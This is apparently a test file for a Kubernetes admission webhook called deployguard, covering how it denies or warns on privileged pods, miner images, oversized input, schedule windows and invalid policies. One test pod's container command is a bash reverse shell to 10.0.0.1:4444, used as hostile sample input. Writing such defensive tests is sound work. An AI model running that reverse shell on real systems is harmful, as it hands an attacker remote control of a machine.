import { expect } from 'chai';
import { systemClock, type Clock } from '../../../src/base/clock.ts';
import { silentLog } from '../../../src/base/log.ts';
import type { CompiledPolicy } from '../../../src/engine/compiled-policy.ts';
import { compileGlob } from '../../../src/engine/glob.ts';
import { inlineEvaluator, type PodEvaluator } from '../../../src/evaluation/evaluator.ts';
import {
  AdmissionHandler,
  PODS_PATH,
  POLICIES_PATH,
  type AdmissionOutcome,
} from '../../../src/admission/handler.ts';
import { MAX_WARNING_LENGTH, MAX_WARNINGS } from '../../../src/admission/decide.ts';
import { compiled, podJson, policyJson, type Json } from '../builders.ts';

const PRIV = {
  containers: [{ name: 'app', image: 'app:1', securityContext: { privileged: true } }],
};
const BASELINE = { podSecurity: { level: 'baseline' } };

function review(request: Json): Json {
  return {
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: 'r-1',
      kind: { group: '', version: 'v1', kind: 'Pod' },
      resource: { group: '', version: 'v1', resource: 'pods' },
      operation: 'CREATE',
      namespace: 'default',
      userInfo: { username: 'alice', groups: ['dev'] },
      ...request,
    },
  };
}

interface Response {
  uid: string;
  allowed: boolean;
  status?: { code: number; message: string };
  warnings?: string[];
}

function setup(
  policies: CompiledPolicy[],
  opts: { evaluator?: PodEvaluator; loaded?: boolean; deadlineMs?: number; clock?: Clock } = {},
): {
  ask: (path: string, body: unknown) => Promise<Response>;
  outcomes: AdmissionOutcome[];
  kinds: string[];
} {
  const outcomes: AdmissionOutcome[] = [];
  const kinds: string[] = [];
  const handler = new AdmissionHandler({
    evaluator: opts.evaluator ?? inlineEvaluator,
    policies: () => policies,
    loaded: () => opts.loaded ?? true,
    namespaceLabels: () => ({}),
    exempt: ['deployguard-system', 'kube-*'].map(compileGlob),
    clock: opts.clock ?? systemClock,
    log: silentLog,
    deadlineMs: opts.deadlineMs,
    onOutcome: (kind, outcome) => {
      outcomes.push(outcome);
      kinds.push(kind);
    },
  });
  return {
    outcomes,
    kinds,
    ask: async (path, body) => {
      const a = await handler.handle(path, body);
      expect(a.code).to.equal(200);
      return (a.body as { response: Response }).response;
    },
  };
}

const deny = (extra: Json = {}, name = 'deny') =>
  compiled({ rules: BASELINE, admission: { action: 'Deny' }, ...extra }, name);
const warn = (extra: Json = {}, name = 'warn') =>
  compiled({ rules: BASELINE, admission: { action: 'Warn' }, ...extra }, name);

describe('admission: handler', () => {
  it('refuses under Deny naming policy, rule, field and fix, and answers the request uid', async () => {
    const { ask, outcomes } = setup([deny()]);
    const r = await ask(PODS_PATH, review({ object: podJson(PRIV) }));
    expect(r.uid).to.equal('r-1');
    expect(r.allowed).to.equal(false);
    expect(r.status?.code).to.equal(403);
    expect(r.status?.message).to.contain(
      'policy "deny": pss.privileged (critical) at spec.containers[0].securityContext.privileged',
    );
    expect(r.status?.message).to.contain('; fix: ');
    expect(outcomes).to.deep.equal(['denied']);
  });

  it('admits with warnings under Warn, silently when benign, and Off or minSeverity leave it alone', async () => {
    const { ask, outcomes } = setup([
      warn(),
      compiled({ rules: BASELINE, admission: { action: 'Off' } }, 'off'),
      deny(
        {
          admission: { action: 'Deny', minSeverity: 'critical' },
          rules: { ownership: { denyBarePods: true } },
        },
        'bare',
      ),
    ]);
    const w = await ask(PODS_PATH, review({ object: podJson(PRIV) }));
    expect(w.allowed).to.equal(true);
    expect(w.warnings).to.have.length(1);
    expect(w.warnings?.[0]).to.match(/^deployguard: policy "warn": pss\.privileged/);
    const ok = await ask(PODS_PATH, review({ object: podJson() }));
    expect(ok).to.deep.equal({ uid: 'r-1', allowed: true });
    expect(outcomes).to.deep.equal(['warned', 'allowed']);
  });

  it('refuses a pod padded past the bounds even under minSeverity critical: the padding may hide anything', async () => {
    const { ask } = setup([
      deny({
        rules: { indicators: { enabled: true } },
        admission: { action: 'Deny', minSeverity: 'critical' },
      }),
    ]);
    const padded = podJson({
      containers: [
        { name: 'pad', image: 'app:1', env: [{ name: 'X', value: 'x'.repeat(130 * 1024) }] },
        {
          name: 'sh',
          image: 'app:1',
          command: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
        },
      ],
    });
    const r = await ask(PODS_PATH, review({ object: padded }));
    expect(r.allowed).to.equal(false);
    expect(r.status?.message).to.contain('input.oversized');
  });

  it('judges a workload by its template, with the path in the workload', async () => {
    const { ask } = setup([deny()]);
    const dep = {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'web', namespace: 'default' },
      spec: { template: { metadata: {}, spec: PRIV } },
    };
    const r = await ask(
      PODS_PATH,
      review({ kind: { group: 'apps', version: 'v1', kind: 'Deployment' }, object: dep }),
    );
    expect(r.allowed).to.equal(false);
    expect(r.status?.message).to.contain('Deployment default/web');
    expect(r.status?.message).to.contain(
      'spec.template.spec.containers[0].securityContext.privileged',
    );
  });

  it('refuses an update only for what it adds: a label or a record on a violating pod passes', async () => {
    const { ask } = setup([deny()]);
    const old = podJson(PRIV);
    const relabelled = podJson(PRIV, { labels: { quarantine: 'true' } });
    expect(
      (await ask(PODS_PATH, review({ operation: 'UPDATE', object: relabelled, oldObject: old })))
        .allowed,
    ).to.equal(true);
    // An ephemeral container added through the subresource is new, and refused.
    const debugged = podJson({
      ...PRIV,
      ephemeralContainers: [
        { name: 'dbg', image: 'busybox:1', securityContext: { privileged: true } },
      ],
    });
    const r = await ask(
      PODS_PATH,
      review({
        operation: 'UPDATE',
        subResource: 'ephemeralcontainers',
        object: debugged,
        oldObject: old,
      }),
    );
    expect(r.allowed).to.equal(false);
    expect(r.status?.message).to.contain('spec.ephemeralContainers[0].securityContext.privileged');
    expect(r.status?.message).to.not.contain('spec.containers[0]');
    expect(r.status?.message).to.contain('(ephemeralcontainers)');
  });

  it('judges the old and new object at one instant: a schedule window never makes a label update new', async () => {
    // A clock that moves on every reading, as a busy machine's does between two evaluations.
    let t = Date.parse('2026-12-08T03:00:00Z');
    const ticking: Clock = { ...systemClock, now: () => (t += 61_000) };
    const window = { days: ['Mon'], start: '09:00', end: '10:00', timeZone: 'UTC' };
    const { ask } = setup([deny({ rules: { schedule: { allowedWindows: [window] } } })], {
      clock: ticking,
    });
    const old = podJson();
    const labelled = podJson({}, { labels: { on: 'call' } });
    for (let i = 0; i < 5; i++) {
      const r = await ask(
        PODS_PATH,
        review({ operation: 'UPDATE', object: labelled, oldObject: old }),
      );
      expect(r.allowed).to.equal(true);
    }
    expect((await ask(PODS_PATH, review({ object: podJson() }))).allowed).to.equal(false);
  });

  it('a changed image is a new violation even where the old one broke the same rule', async () => {
    const { ask } = setup([deny({ rules: { images: { deniedImages: ['*miner*'] } } })]);
    const at = (image: string) => podJson({ containers: [{ name: 'app', image }] });
    const r = await ask(
      PODS_PATH,
      review({ operation: 'UPDATE', object: at('xmrig-miner:2'), oldObject: at('old-miner:1') }),
    );
    expect(r.allowed).to.equal(false);
  });

  it('never judges an exempt namespace, a DELETE, or a kind that carries no pod', async () => {
    const { ask, kinds } = setup([deny()]);
    for (const req of [
      { namespace: 'kube-system', object: podJson(PRIV) },
      { namespace: 'deployguard-system', object: podJson(PRIV) },
      { operation: 'DELETE', oldObject: podJson(PRIV) },
      { kind: { group: '', version: 'v1', kind: 'ConfigMap' }, object: { kind: 'ConfigMap' } },
    ])
      expect((await ask(PODS_PATH, review(req))).allowed).to.equal(true);
    // A caller's made-up kind never becomes a metric series of its own.
    expect(kinds).to.deep.equal(['Pod', 'Pod', 'Pod', 'other']);
  });

  it('fails open, with a warning, before the policies are loaded and when judging is too slow', async () => {
    const before = setup([deny()], { loaded: false });
    const r = await before.ask(PODS_PATH, review({ object: podJson(PRIV) }));
    expect(r.allowed).to.equal(true);
    expect(r.warnings?.[0]).to.contain('unjudged');
    const stuck: PodEvaluator = {
      evaluate: () => new Promise(() => undefined),
      close: async () => undefined,
    };
    const slow = setup([deny()], { evaluator: stuck, deadlineMs: 20 });
    const s = await slow.ask(PODS_PATH, review({ object: podJson(PRIV) }));
    expect(s.allowed).to.equal(true);
    expect(slow.outcomes).to.deep.equal(['failed_open']);
    const broken: PodEvaluator = {
      evaluate: () => Promise.reject(new Error('boom')),
      close: async () => undefined,
    };
    expect(
      (
        await setup([deny()], { evaluator: broken }).ask(
          PODS_PATH,
          review({ object: podJson(PRIV) }),
        )
      ).allowed,
    ).to.equal(true);
  });

  it('bounds warnings as the API server keeps them: a dozen lines of at most 256 characters', async () => {
    const many = Array.from({ length: 30 }, (_, i) =>
      warn({}, `warn-${String(i).padStart(2, '0')}-${'x'.repeat(150)}`),
    );
    const { ask } = setup(many);
    const r = await ask(PODS_PATH, review({ object: podJson(PRIV) }));
    expect(r.warnings).to.have.length(MAX_WARNINGS);
    for (const w of r.warnings ?? []) expect(w.length).to.be.at.most(MAX_WARNING_LENGTH);
    expect(r.warnings?.at(-1)).to.equal('deployguard: and 19 more violations');
  });

  it('answers 400 for a body that is not an AdmissionReview', async () => {
    const handler = new AdmissionHandler({
      evaluator: inlineEvaluator,
      policies: () => [],
      loaded: () => true,
      namespaceLabels: () => undefined,
      exempt: [],
      clock: systemClock,
      log: silentLog,
    });
    for (const body of [null, [], { kind: 'AdmissionReview' }, review({ uid: '' })])
      expect((await handler.handle(PODS_PATH, body)).code).to.equal(400);
  });

  describe('policies', () => {
    const policyReview = (object: Json, extra: Json = {}) =>
      review({
        kind: { group: 'deployguard.dev', version: 'v1alpha1', kind: 'ContainerDeploymentPolicy' },
        resource: {
          group: 'deployguard.dev',
          version: 'v1alpha1',
          resource: 'containerdeploymentpolicies',
        },
        namespace: '',
        object,
        ...extra,
      });

    it('refuses what the operator could not load, naming every field at fault', async () => {
      const { ask, outcomes } = setup([]);
      const bad = policyJson({
        rules: {
          commands: { deniedPatterns: ['(a'] },
          schedule: {
            allowedWindows: [
              { days: ['Mon'], start: '09:00', end: '17:00', timeZone: 'Mars/Olympus' },
            ],
          },
        },
        severity: { 'no.such': 'high' },
      });
      const r = await ask(POLICIES_PATH, policyReview(bad));
      expect(r.allowed).to.equal(false);
      expect(r.status?.code).to.equal(422);
      expect(r.status?.message).to.contain('spec.rules.commands.deniedPatterns[0]');
      expect(r.status?.message).to.contain('timeZone');
      expect(r.status?.message).to.contain('spec.severity[no.such]');
      expect(outcomes).to.deep.equal(['invalid']);
      expect(
        (await ask(POLICIES_PATH, policyReview(policyJson({ rules: BASELINE })))).allowed,
      ).to.equal(true);
    });

    it('never refuses an update that leaves the spec alone (a label, a finalizer)', async () => {
      const { ask } = setup([]);
      const bad = policyJson({ rules: { commands: { deniedPatterns: ['(a'] } } });
      const labelled = { ...bad, metadata: { ...(bad.metadata as Json), labels: { a: 'b' } } };
      expect(
        (await ask(POLICIES_PATH, policyReview(labelled, { operation: 'UPDATE', oldObject: bad })))
          .allowed,
      ).to.equal(true);
      const worse = policyJson({ rules: { commands: { deniedPatterns: ['(b'] } } });
      expect(
        (await ask(POLICIES_PATH, policyReview(worse, { operation: 'UPDATE', oldObject: bad })))
          .allowed,
      ).to.equal(false);
    });
  });
});
